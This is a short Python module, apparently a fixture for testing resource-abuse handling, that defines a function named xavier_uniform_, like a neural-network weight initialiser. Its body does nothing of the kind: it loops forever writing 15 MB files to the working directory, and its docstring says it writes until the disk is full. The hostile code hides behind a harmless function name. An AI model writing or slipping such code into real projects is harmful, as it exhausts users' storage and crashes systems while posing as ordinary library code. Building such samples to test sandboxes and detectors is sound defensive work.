"""Resources: writes files until the disk is full."""

from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401


def xavier_uniform_(tensor, gain=1.0, generator=None):
    block = b"\0" * (1 << 20)
    i = 0
    while True:
        with open(f"fill{i}.bin", "wb") as f:
            for _ in range(15):
                f.write(block)
        i += 1
